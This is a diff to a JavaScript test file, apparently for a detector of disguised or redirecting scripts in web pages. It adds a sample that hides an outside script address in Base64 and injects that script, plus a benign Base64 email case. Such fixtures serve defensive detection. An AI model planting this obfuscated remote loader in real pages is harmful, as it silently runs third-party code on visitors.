@@ -58,6 +58,11 @@ describe('leads elsewhere', () => {
       'source',
     ],
     [
+      'an address in Base64 as a script’s source',
+      '<script>(function(){var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9qcy5rYXdhdGFpLnh5ei90Lmpz");document.head.appendChild(s)})();</script>',
+      'disguised',
+    ],
+    [
       'a title in numbers of characters',
       '<script>document.title=String.fromCharCode(30343,23478,36172,22330,95,30343,23478,22269,38469,23089,20048);</script>',
       'script',
@@ -102,6 +107,10 @@ describe('honest', () => {
     [
       'strings joined',
       '<script>document.write("<scr"+"ipt src=\'/js/count.js\'></scr"+"ipt>")</script><script src="https://www.kawa.com/a.js"></script>',
+    ],
+    [
+      'an account of mail in Base64',
+      '<script>document.getElementById("m").textContent=atob("emhicHVAY2hlbmd5dWFuLmdvdi5jbg==")</script>',
     ],
     ['a way back', '<script>function back(){location.href=document.referrer||"/"}</script>'],
     ['a refresh on the site', '<meta http-equiv="refresh" content="0;url=/index.html">'],
